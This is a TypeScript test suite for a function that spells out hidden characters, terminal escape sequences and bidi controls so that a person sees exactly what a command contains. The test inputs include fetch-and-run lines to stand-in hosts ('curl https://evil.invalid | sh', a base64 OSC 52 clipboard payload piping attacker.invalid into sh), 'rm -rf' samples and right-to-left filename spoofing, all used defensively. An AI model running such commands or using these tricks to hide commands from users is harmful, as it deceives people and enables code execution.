import * as assert from 'node:assert/strict';
import { hasMarks, LABEL_CHARS, visibleLabel, visibleParts, visibleText, type VisibleOptions } from '../../../src/shared/visibleText';

/** What the user reads where the text is shown: the parts one after the other, every mark spelled out. */
const shown = (text: string, options?: VisibleOptions): string => visibleParts(text, options).map((part) => part.text).join('');

describe('text bound for a person shows every character that would hide or act', () => {
  it('shows a line feed in a command as ␊, so a second command on a new line cannot pass for part of the first', () => {
    // Tried: a command that looks like `npm test` but runs `curl … | sh` on its second line.
    assert.equal(shown('npm test\ncurl https://evil.invalid | sh'), 'npm test␊curl https://evil.invalid | sh');
  });

  it('shows each C0 control as its Control Picture, and DEL as ␡', () => {
    assert.equal(shown('\u0000'), '␀');
    assert.equal(shown('a\tb'), 'a␉b');
    assert.equal(shown('a\rb'), 'a␍b');
    assert.equal(shown('\u0007'), '␇');
    // Tried: an ANSI escape that would repaint the terminal line.
    assert.equal(shown('echo \u001b[2K\u001b[1Gsafe'), 'echo ␛[2K␛[1Gsafe');
    assert.equal(shown('\u001f'), '␟');
    assert.equal(shown('x\u007fy'), 'x␡y');
  });

  it('shows C1 controls as \\u{XXXX}, a control part of its own', () => {
    assert.equal(shown('a\u0085b\u009bc'), 'a\\u{0085}b\\u{009B}c');
    assert.deepEqual(visibleParts('a\u0085'), [{ kind: 'plain', text: 'a' }, { kind: 'control', text: '\\u{0085}', code: 0x85 }]);
  });

  it('marks every zero-width character as ⟨U+XXXX⟩', () => {
    for (const code of [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff]) {
      const mark = `⟨U+${code.toString(16).toUpperCase()}⟩`;
      // Tried: `rm -rf ./build` with an invisible character inside the path, which names another folder.
      assert.equal(shown(`rm -rf ./bu${String.fromCodePoint(code)}ild`), `rm -rf ./bu${mark}ild`);
      assert.deepEqual(visibleParts(String.fromCodePoint(code)), [{ kind: 'hidden', text: mark, code }]);
    }
  });

  it('marks every bidi control, so a Trojan Source line reads in the order it runs', () => {
    for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c]) {
      const mark = `⟨U+${code.toString(16).toUpperCase().padStart(4, '0')}⟩`;
      assert.equal(shown(`a${String.fromCodePoint(code)}b`), `a${mark}b`);
    }
    // Tried: the right-to-left override that makes `exe.txt` read as `txt.exe`.
    assert.equal(shown('cp report\u202Etxt.exe /tmp'), 'cp report⟨U+202E⟩txt.exe /tmp');
  });

  it('marks other characters that show nothing or pass for a space: no-break space, soft hyphen, tags, a lone surrogate', () => {
    assert.equal(shown('rm\u00A0-rf'), 'rm⟨U+00A0⟩-rf');
    assert.equal(shown('in\u00ADstall'), 'in⟨U+00AD⟩stall');
    assert.equal(shown('a\u3000b\u2028c'), 'a⟨U+3000⟩b⟨U+2028⟩c');
    // Tried: ASCII smuggled as Unicode tag characters ("hi" in tags), invisible in most fonts.
    assert.equal(shown('ok\u{E0068}\u{E0069}'), 'ok⟨U+E0068⟩⟨U+E0069⟩');
    assert.equal(shown('x\uD800y'), 'x⟨U+D800⟩y');
    // Tried: blank "letters" used for invisible names, and a variation selector carrying hidden bytes after a letter.
    assert.equal(shown('a\u3164b\u2800c'), 'a⟨U+3164⟩b⟨U+2800⟩c');
    assert.equal(shown('a\u{E0100}'), 'a⟨U+E0100⟩');
  });

  it('leaves plain text of every script, and emoji, exactly as it is', () => {
    for (const text of [
      'git log --oneline -n 5 && echo "done" > out.txt',
      'Grüße, café, naïve, Øresund',
      'Привет, мир',
      '你好，世界 こんにちは 안녕하세요',
      'مرحبا بالعالم',
      'שלום עולם',
      'नमस्ते दुनिया',
      'ok 👍 🎉 🇫🇷 #️⃣ 1️⃣',
      'family 👨‍👩‍👧 rainbow 🏳️‍🌈 coder 👩🏽‍💻 heart on fire ❤️‍🔥',
      'Scotland 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
    ]) {
      assert.equal(shown(text), text, text);
      assert.deepEqual(visibleParts(text), [{ kind: 'plain', text }], text);
    }
  });

  it('keeps a zero-width joiner that is not between two pictographs marked', () => {
    assert.equal(shown('a\u200Db'), 'a⟨U+200D⟩b');
    assert.equal(shown('👍\u200Db'), '👍⟨U+200D⟩b');
  });

  it('keeps line feeds and tabs as layout in output, makes CR LF a line feed, and still shows a lone CR and the rest', () => {
    const output = 'line 1\r\nline\t2\nprogress 10%\rprogress 100%\u001b[0m\u202E\r';
    assert.equal(shown(output, { keepLayout: true }), 'line 1\nline\t2\nprogress 10%␍progress 100%␛[0m⟨U+202E⟩␍');
    assert.equal(visibleText(output, { keepLayout: true }), shown(output, { keepLayout: true }));
  });

  it('kills every terminal sequence a gate or a model can print: CSI, OSC 52 and the title, DCS, conceal, BEL, C1 and DEL', () => {
    // Tried on a plain terminal: the clipboard set to a command, the window title changed, the line above erased.
    const attack = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007\u001b]0;title\u001b\\\u001bP1$r\u001b\\\u001b[8mhidden\u001b[1A\u001b[2K\u009b31m\u009d0;t\u009c\u007f';
    const seen = visibleText(attack, { keepLayout: true });
    assert.equal(seen, '␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛]0;title␛\\␛P1$r␛\\␛[8mhidden␛[1A␛[2K\\u{009B}31m\\u{009D}0;t\\u{009C}␡');
    // eslint-disable-next-line no-control-regex -- no control character may be left
    assert.doesNotMatch(seen, /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/);
    assert.equal(visibleText(attack), seen, 'no line feed or tab in it: both modes agree');
  });

  it('one table: a character is marked exactly when it is a control, a format character, a separator other than the space, or one of the named blanks', () => {
    const named = new Set([0x034f, 0x115f, 0x1160, 0x2800, 0x3164, 0xffa0]);
    const category = /^[\p{Cc}\p{Cf}\p{Zs}\p{Zl}\p{Zp}]$/u;
    const mismatches: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      const char = String.fromCodePoint(code);
      const selector = (code >= 0xfe00 && code <= 0xfe0d) || (code >= 0xe0100 && code <= 0xe01ef);
      const expected = code !== 0x20 && (category.test(char) || named.has(code) || selector || (code >= 0xd800 && code <= 0xdfff));
      if (hasMarks(`a${char}b`) !== expected) mismatches.push(code.toString(16));
    }
    assert.deepEqual(mismatches, []);
  });

  it('the string and the parts agree on every text, and text without marks comes back as the same string', () => {
    const pieces = ['a', ' ', '\n', '\r', '\r\n', '\t', '\u001b', '\u0085', '\u00a0', '\u200d', '\u202e', '👨', '🏴', '\u{e0067}', '\u{e007f}', '\ufe0f', '\ud800', 'é', '你', '\u007f'];
    let seed = 7;
    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let round = 0; round < 3000; round++) {
      const text = Array.from({ length: next() % 12 }, () => pieces[next() % pieces.length]).join('');
      for (const options of [{}, { keepLayout: true }]) assert.equal(visibleText(text, options), shown(text, options), JSON.stringify(text));
    }
    const plain = 'x'.repeat(1000);
    assert.equal(visibleText(plain), plain);
    assert.equal(hasMarks('ok 👍 Grüße'), false);
    assert.equal(hasMarks('a\u200bb'), true);
  });

  it('makes labels one line of at most 80 characters, cut with … and never inside a mark or a surrogate pair', () => {
    assert.equal(LABEL_CHARS, 80);
    assert.equal(visibleLabel('npm test\nrm -rf /'), 'npm test␊rm -rf /');
    const long = visibleLabel('x'.repeat(200));
    assert.equal(long, `${'x'.repeat(80)}…`);
    // A mark that would cross the limit is left out whole, not cut into a misleading "⟨U+2".
    assert.equal(visibleLabel(`${'x'.repeat(76)}\u202Eabc`), `${'x'.repeat(76)}…`);
    const emoji = visibleLabel('😀'.repeat(100));
    assert.equal(emoji, `${'😀'.repeat(80)}…`);
    assert.equal(visibleLabel('short'), 'short');
  });
});
